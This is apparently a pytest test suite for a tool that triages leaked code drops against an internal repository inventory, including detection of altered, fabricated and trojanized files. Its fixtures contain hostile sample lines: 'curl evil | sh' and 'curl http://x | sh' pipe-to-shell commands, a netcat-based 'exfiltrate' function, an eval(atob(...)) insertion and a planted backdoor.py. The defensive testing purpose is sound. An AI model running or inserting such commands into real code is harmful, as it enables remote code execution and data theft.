"""End to end through the pipeline: each verdict, moved files, nested archives, evidence fields."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from tests.conftest import Repo, code_file
from triage.inventory.indexer import index_source
from triage.inventory.store import SQLiteStore
from triage.model import Verdict
from triage.pipeline import scan

HEADER = "# Copyright (c) Example Corp. All rights reserved.\n# Licensed under the Example License 2.0.\n"


def zip_bytes(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


@pytest.fixture
def inventory(repo: Repo, tmp_path: Path):
    v1 = {f"pkg/{n}.py": HEADER + code_file(n) for n in ("core", "io", "net", "auth")}
    v1["pkg/data.bin"] = bytes(range(256)) * 64
    c1 = repo.commit(v1, "initial")
    repo.commit({"pkg/core.py": HEADER + code_file("core", salt="new")}, "change core")
    db = tmp_path / "inv.db"
    store = SQLiteStore.create_or_open(db)
    index_source(store, repo.path)
    store.close()
    return {"db": db, "v1": v1, "c1": c1, "repo": repo}


def _verdicts(report):
    return {f.path: f for f in report.files}


def test_every_verdict(inventory, tmp_path: Path):
    v1 = inventory["v1"]
    net = v1["pkg/net.py"]
    lines = net.splitlines(keepends=True)
    altered = "".join(lines[:30] + ["    injected = os.system('curl evil | sh')\n"] + lines[30:])
    forgery = (HEADER + '"""Module net: internal service logic."""\nimport os\nimport json\n\n'
               "def exfiltrate(host):\n    return os.popen('nc ' + host).read()\n")
    inner = zip_bytes({"lib/auth.py": v1["pkg/auth.py"].encode()})
    drop = zip_bytes({
        "leak/pkg/io.py": v1["pkg/io.py"].encode(),  # real
        "leak/moved/auth_copy.py": v1["pkg/auth.py"].encode(),  # real, moved
        "leak/pkg/core.py": v1["pkg/core.py"].encode(),  # outdated
        "leak/pkg/net.py": altered.encode(),  # altered
        "leak/pkg/auth.py": forgery.encode(),  # fabricated at a real path (impersonates)
        "leak/pkg/new.py": code_file("zzz").encode(),  # fabricated at a new path
        "leak/pkg/data.bin": v1["pkg/data.bin"],  # real binary
        "leak/vendor/inner.zip": inner,  # its bytes are not internal; the file it holds is
    })
    (tmp_path / "drop.zip").write_bytes(drop)
    report = scan(tmp_path / "drop.zip", inventory["db"])
    v = _verdicts(report)
    assert v["leak/pkg/io.py"].verdict is Verdict.REAL
    assert v["leak/moved/auth_copy.py"].verdict is Verdict.REAL
    assert v["leak/moved/auth_copy.py"].evidence["moved"] is True
    assert v["leak/moved/auth_copy.py"].evidence["matches"][0]["path"] == "pkg/auth.py"
    assert v["leak/pkg/core.py"].verdict is Verdict.OUTDATED
    assert v["leak/pkg/core.py"].evidence["matches"][0]["commits"] == [inventory["c1"]]
    assert v["leak/pkg/net.py"].verdict is Verdict.ALTERED
    src = v["leak/pkg/net.py"].evidence["derived_from"][0]
    assert src["occurrences"][0]["path"] == "pkg/net.py"
    assert src["changes"]["inserted"] == 1 and src["changes"]["deleted"] == 0
    assert "lines-inserted" in src["changes"]["kinds"]
    assert v["leak/pkg/auth.py"].verdict is Verdict.FABRICATED
    assert v["leak/pkg/auth.py"].evidence["impersonates"] == "pkg/auth.py"
    assert v["leak/pkg/new.py"].verdict is Verdict.FABRICATED
    assert "impersonates" not in v["leak/pkg/new.py"].evidence
    assert v["leak/pkg/data.bin"].verdict is Verdict.REAL
    assert v["leak/vendor/inner.zip!lib/auth.py"].verdict is Verdict.REAL
    box = v["leak/vendor/inner.zip"]  # derived from internal content: repackaged, judged by its files
    assert box.verdict is Verdict.ALTERED and box.evidence["change_kinds"] == ["repackaged"]
    assert box.evidence["container"]["verdicts"] == {"real": 1, "outdated": 0, "altered": 0, "fabricated": 0}
    assert report.summary == {"real": 4, "outdated": 1, "altered": 2, "fabricated": 2, "skipped": 0}
    assert report.snapshot["commit"] == inventory["c1"]  # io/net/auth + old core: only c1 holds them all


def test_archives_in_the_drop_are_judged_by_their_files(inventory, tmp_path: Path):
    """An archive inside a drop is a file of the drop: real when its bytes are internal, else
    altered ("repackaged") when it holds internal content and fabricated when it holds none. A
    file compressed on its own keeps its folder: ``pkg/io.py.gz!io.py`` is at ``pkg/io.py``."""
    import gzip

    v1, repo = inventory["v1"], inventory["repo"]
    shipped = zip_bytes({"pkg/io.py": v1["pkg/io.py"].encode(), "NOTICE.txt": b"Only in the release archive.\n"})
    repo.commit({"dist/release.zip": shipped}, "ship a release archive")
    db = tmp_path / "inv2.db"
    store = SQLiteStore.create_or_open(db)
    index_source(store, repo.path)
    store.close()
    made_up = zip_bytes({"x/one.py": code_file("qqq").encode(), "x/two.py": code_file("rrr").encode()})
    drop = zip_bytes({
        "leak/pkg/io.py.gz": gzip.compress(v1["pkg/io.py"].encode(), mtime=0),
        "leak/pkg/net.py": v1["pkg/net.py"].encode(),
        "leak/dist/release.zip": shipped,  # an internal artifact, byte for byte
        "leak/made_up.zip": zip_bytes({"inner.zip": made_up}),  # nothing internal, two levels deep
    })
    (tmp_path / "drop.zip").write_bytes(drop)
    v = _verdicts(scan(tmp_path / "drop.zip", db))
    gz = v["leak/pkg/io.py.gz"]
    assert gz.verdict is Verdict.ALTERED and gz.evidence["container"]["format"] == "gz"
    inner = v["leak/pkg/io.py.gz!io.py"]
    assert inner.verdict is Verdict.REAL
    assert inner.evidence["internal_path"] == "pkg/io.py" and inner.evidence["moved"] is False
    assert v["leak/dist/release.zip"].verdict is Verdict.REAL  # exact: not judged through its files
    assert v["leak/dist/release.zip!pkg/io.py"].verdict is Verdict.REAL
    notice = v["leak/dist/release.zip!NOTICE.txt"]  # indexed only inside the archive: internal too
    assert notice.verdict is Verdict.REAL
    assert notice.evidence["inside_internal_archive"]["path"] == "leak/dist/release.zip"
    outer, deeper = v["leak/made_up.zip"], v["leak/made_up.zip!inner.zip"]
    assert outer.verdict is Verdict.FABRICATED and deeper.verdict is Verdict.FABRICATED
    assert outer.evidence["container"]["files"] == 2  # the inner archive counts through its files
    assert "archive: zip" in outer.evidence["notes"]


def test_what_changed_is_named(inventory, tmp_path: Path):
    """Two real files pasted together are a concatenation of both (not one file with the other's
    lines "inserted" and scanned as suspicious code); a byte order mark or UTF-16 is an encoding
    change, CR line ends a line-endings change, neither is trailing whitespace."""
    v1 = inventory["v1"]
    io_py, net_py = v1["pkg/io.py"], v1["pkg/net.py"]
    drop = zip_bytes({
        "leak/pkg/io.py": (io_py + "\n" + net_py).encode(),
        "leak/pkg/net.py": b"\xef\xbb\xbf" + net_py.encode(),
        "leak/pkg/auth.py": v1["pkg/auth.py"].encode("utf-16"),
        "leak/pkg/core.py": v1["pkg/core.py"].replace("\n", "\r").encode(),
    })
    (tmp_path / "drop.zip").write_bytes(drop)
    v = _verdicts(scan(tmp_path / "drop.zip", inventory["db"]))
    assert all(f.verdict is Verdict.ALTERED for f in v.values())
    joined = v["leak/pkg/io.py"].evidence
    assert joined["change_kinds"] == ["concatenation"] and "trojanized" not in joined
    assert sorted(s["occurrences"][0]["path"] for s in joined["derived_from"]) == ["pkg/io.py", "pkg/net.py"]
    assert v["leak/pkg/net.py"].evidence["change_kinds"] == ["encoding", "format-only"]
    assert v["leak/pkg/auth.py"].evidence["change_kinds"] == ["encoding", "format-only"]
    assert v["leak/pkg/core.py"].evidence["change_kinds"] == ["format-only", "line-endings"]


def test_sources_too_large_to_keep_are_compared_by_their_hashes(repo: Repo, tmp_path: Path, monkeypatch):
    """An internal content over the index's body limit keeps only its fingerprints: an edited copy
    is still altered from it (by its line or chunk hashes), the inserted line is still found, and
    the report says no diff could be shown. It used to be no candidate at all: "fabricated"."""
    import triage.inventory.rows as rows

    monkeypatch.setattr(rows, "BODY_MAX_BYTES", 1000)
    big = "".join(f"    total_{i} = compute_value({i}, factor_{i % 13}) + offset_{i}\n" for i in range(400))
    blob = bytes((i * 7919) % 251 for i in range(64 * 1024))
    repo.commit({"src/big.py": big, "assets/blob.bin": blob}, "large files")
    db = tmp_path / "inv.db"
    store = SQLiteStore.create_or_open(db)
    index_source(store, repo.path)
    store.close()
    lines = big.splitlines(keepends=True)
    edited = "".join(lines[:200] + ["    eval(atob('ZXZpbA=='))\n"] + lines[200:])
    patched = bytearray(blob)
    patched[30_000:30_008] = b"PATCHED!"
    (tmp_path / "d.zip").write_bytes(zip_bytes({"leak/src/big.py": edited.encode(),
                                                "leak/assets/blob.bin": bytes(patched)}))
    v = _verdicts(scan(tmp_path / "d.zip", db))
    text = v["leak/src/big.py"]
    assert text.verdict is Verdict.ALTERED
    assert any("compared by its line hashes" in n for n in text.evidence["notes"])
    src = text.evidence["derived_from"][0]
    assert src["changes"]["inserted"] == 1 and src["changes"]["hunks"] == []
    assert [h["line"] for h in text.evidence.get("suspicious_insertions", [])] == [201]
    assert v["leak/assets/blob.bin"].verdict is Verdict.ALTERED


def test_files_waiting_on_disk_give_the_same_report(inventory, tmp_path: Path, monkeypatch):
    """Files waiting for the fuzzy stage beyond the memory allowance wait in the scan's work
    folder (a drop of 25 files of 40 MB held 1 GB): the report is the same, the folder is left
    empty, and a batch is flushed by its bytes, not only by its count."""
    import triage.pipeline as P
    from triage.render.json import render

    v1 = inventory["v1"]
    drop = zip_bytes({
        "leak/pkg/io.py": v1["pkg/io.py"].encode(),
        "leak/pkg/net.py": (v1["pkg/net.py"] + "x = 1\n").encode(),
        "leak/pkg/new.py": code_file("zzz").encode(),
        "leak/pkg/data.bin": v1["pkg/data.bin"][:-3] + b"xyz",
    })
    (tmp_path / "d.zip").write_bytes(drop)
    before = render(scan(tmp_path / "d.zip", inventory["db"]))
    work = tmp_path / "work"
    work.mkdir()
    written: list[Path] = []
    real_write = Path.write_bytes

    def spy(self: Path, data: bytes) -> int:
        written.append(self)
        return real_write(self, data)

    monkeypatch.setattr(P, "RETAIN_BYTES", 1)
    monkeypatch.setattr(P, "BATCH_BYTES", 1)
    monkeypatch.setattr(Path, "write_bytes", spy)
    after = render(scan(tmp_path / "d.zip", inventory["db"], P.ScanOptions(workdir=work)))
    strip = lambda doc: [x for x in doc.splitlines() if "generated_at" not in x]  # noqa: E731
    assert strip(after) == strip(before)
    assert len([w for w in written if w.parent == work]) == 3  # all but the exact match waited on disk
    assert list(work.iterdir()) == []


def test_too_large_to_compare_is_not_called_fabricated(inventory, tmp_path: Path, monkeypatch):
    """A file over the content-comparison limit with no exact match was called fabricated ("no
    internal content shares specific lines"), though nothing was compared: it is not triaged
    (too-large, with its hash); an exact match of the same size is still real."""
    import triage.fingerprint as F
    import triage.pipeline as P

    monkeypatch.setattr(F, "FUZZY_MAX_BYTES", 1000)
    monkeypatch.setattr(P, "FUZZY_MAX_BYTES", 1000)
    v1 = inventory["v1"]
    assert len(v1["pkg/io.py"]) > 1000
    (tmp_path / "d.zip").write_bytes(zip_bytes({"leak/pkg/io.py": v1["pkg/io.py"].encode(),
                                                "leak/pkg/net.py": (v1["pkg/net.py"] + "x = 1\n").encode()}))
    report = scan(tmp_path / "d.zip", inventory["db"])
    assert [(f.path, f.verdict) for f in report.files] == [("leak/pkg/io.py", Verdict.REAL)]
    [sk] = report.skipped
    assert sk.path == "leak/pkg/net.py" and sk.reason == "too-large" and "not compared" in sk.detail


def test_fabricated_files_in_dependency_folders_are_told_apart(inventory, tmp_path: Path):
    """A checkout carries its dependencies: files under node_modules or vendor that match nothing
    internal are still fabricated (not derived from internal content), but the evidence and the
    narrative say they lie in dependency folders."""
    (tmp_path / "d.zip").write_bytes(zip_bytes({
        "leak/node_modules/left-pad/index.js": b"module.exports = function leftPad(s, n, c) { return s; };\n",
        "leak/vendor/lib/util.go": code_file("vvv").encode(),
        "leak/pkg/new.py": code_file("zzz").encode(),
    }))
    report = scan(tmp_path / "d.zip", inventory["db"])
    v = _verdicts(report)
    assert all(f.verdict is Verdict.FABRICATED for f in v.values())
    assert v["leak/node_modules/left-pad/index.js"].evidence["dependency_folder"] == "node_modules"
    assert v["leak/vendor/lib/util.go"].evidence["dependency_folder"] == "vendor"
    assert "dependency_folder" not in v["leak/pkg/new.py"].evidence
    assert any("2 of them lie in dependency folders" in line for line in report.verdict_text)


def test_files_kept_in_git_lfs_match_through_their_pointers(repo: Repo, tmp_path: Path):
    """An inventory that keeps weights in Git LFS indexes only their pointers: the dropped file
    whose SHA-256 and size the pointer names is that internal file (it was fabricated)."""
    import hashlib

    weights = bytes((i * 31 + 7) % 256 for i in range(200_000))
    sha = hashlib.sha256(weights).hexdigest()

    def pointer(sha256: str, size: int) -> str:
        return f"version https://git-lfs.github.com/spec/v1\noid sha256:{sha256}\nsize {size}\n"

    repo.commit({"models/model.bin": pointer(sha, len(weights)), "README.md": "# models\nSee model.bin.\n"},
                "weights in LFS")
    db = tmp_path / "inv.db"
    store = SQLiteStore.create_or_open(db)
    index_source(store, repo.path)
    store.close()
    (tmp_path / "d.zip").write_bytes(zip_bytes({"leak/models/model.bin": weights,
                                                "leak/models/other.bin": weights[:-1]}))
    v = _verdicts(scan(tmp_path / "d.zip", db))
    got = v["leak/models/model.bin"]
    assert got.verdict is Verdict.REAL and got.evidence["moved"] is False
    assert got.evidence["pointer"] == {"kind": "lfs", "blob": got.evidence["matches"][0]["blob"],
                                       "path": "models/model.bin"}
    assert any("Git LFS pointer" in r for r in got.reasons)
    assert v["leak/models/other.bin"].verdict is Verdict.FABRICATED  # another SHA-256: no pointer names it


def test_files_kept_with_dvc_match_through_their_dvc_files(repo: Repo, tmp_path: Path):
    import hashlib

    data = bytes((i * 17 + 3) % 256 for i in range(100_000))
    md5 = hashlib.md5(data).hexdigest()
    repo.commit({"data/train.csv.dvc": f"outs:\n- md5: {md5}\n  size: {len(data)}\n  path: train.csv\n"},
                "dataset tracked by DVC")
    db = tmp_path / "inv.db"
    store = SQLiteStore.create_or_open(db)
    index_source(store, repo.path)
    store.close()
    (tmp_path / "d.zip").write_bytes(zip_bytes({"leak/data/train.csv": data}))
    got = _verdicts(scan(tmp_path / "d.zip", db))["leak/data/train.csv"]
    assert got.verdict is Verdict.REAL and got.evidence["pointer"]["kind"] == "dvc"
    assert got.evidence["matches"][0]["path"] == got.evidence["pointer"]["path"] == "data/train.csv.dvc"
    assert got.evidence["moved"] is False  # the file DVC tracks lies beside its .dvc file


def test_a_root_dvc_lock_points_below_itself(repo: Repo, tmp_path: Path):
    import hashlib

    data = bytes((i * 13 + 5) % 256 for i in range(50_000))
    md5 = hashlib.md5(data).hexdigest()
    lock = f"schema: '2.0'\nstages:\n  train:\n    outs:\n    - path: models/m.bin\n      md5: {md5}\n" \
           f"      size: {len(data)}\n"
    repo.commit({"dvc.lock": lock}, "pipeline outputs")
    db = tmp_path / "inv.db"
    store = SQLiteStore.create_or_open(db)
    index_source(store, repo.path)
    store.close()
    (tmp_path / "d.zip").write_bytes(zip_bytes({"leak/models/m.bin": data}))
    got = _verdicts(scan(tmp_path / "d.zip", db))["leak/models/m.bin"]
    assert got.verdict is Verdict.REAL and got.evidence["pointer"]["path"] == "dvc.lock"
    assert got.evidence["moved"] is False  # a root dvc.lock's outputs lie anywhere below it


def test_same_inputs_same_report(inventory, tmp_path: Path):
    from triage.render.json import render

    (tmp_path / "d.zip").write_bytes(zip_bytes({"a/pkg/io.py": inventory["v1"]["pkg/io.py"].encode()}))
    one = render(scan(tmp_path / "d.zip", inventory["db"])).splitlines()
    two = render(scan(tmp_path / "d.zip", inventory["db"])).splitlines()
    strip = [x for x in one if "generated_at" not in x]
    assert strip == [x for x in two if "generated_at" not in x]


def test_corrupt_member_is_skipped_rest_triaged(inventory, tmp_path: Path):
    good = inventory["v1"]["pkg/io.py"].encode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("x/pkg/io.py", good)
        zf.writestr("x/pkg/broken.py", b"A" * 5000)
    data = bytearray(buf.getvalue())
    idx = data.find(b"A" * 100)
    data[idx : idx + 4] = b"ZZZZ"  # the stored bytes no longer match the member's CRC
    (tmp_path / "c.zip").write_bytes(bytes(data))
    report = scan(tmp_path / "c.zip", inventory["db"])
    v = _verdicts(report)
    assert v["x/pkg/io.py"].verdict is Verdict.REAL
    assert "x/pkg/broken.py" not in v
    assert [(s.path, s.reason) for s in report.skipped] == [("x/pkg/broken.py", "corrupt")]


def test_git_folder_in_drop_names_foreign_commits(inventory, tmp_path: Path):
    import subprocess

    from tests.conftest import GIT

    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", str(inventory["repo"].path), str(clone)], check=True)
    (clone / "pkg" / "backdoor.py").write_text("import os\nos.system('curl http://x | sh')\n")
    subprocess.run([*GIT, "-c", "user.name=Mallory", "-c", "user.email=m@evil.example", "-C", str(clone), "add", "-A"],
                   check=True)
    subprocess.run([*GIT, "-c", "user.name=Mallory", "-c", "user.email=m@evil.example", "-C", str(clone), "commit",
                    "-qm", "add helper"], check=True)
    foreign = subprocess.run(["git", "-C", str(clone), "rev-parse", "HEAD"], check=True, capture_output=True,
                             text=True).stdout.strip()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for p in sorted(clone.rglob("*")):
            if p.is_file():
                zf.write(p, "leak/" + p.relative_to(clone).as_posix())
    (tmp_path / "g.zip").write_bytes(buf.getvalue())
    report = scan(tmp_path / "g.zip", inventory["db"])
    assert len(report.embedded_repos) == 1
    repo = report.embedded_repos[0]
    assert repo["internal"] == 2 and repo["foreign"] == 1
    assert repo["foreign_commits"][0]["oid"] == foreign
    assert "Mallory" in repo["foreign_commits"][0]["author"]
    verdicts = {f.path: f.verdict for f in report.files}
    assert verdicts["leak/pkg/io.py"] is Verdict.REAL
    assert not any("/.git/" in p for p in verdicts)  # git objects are evidence, not files to triage
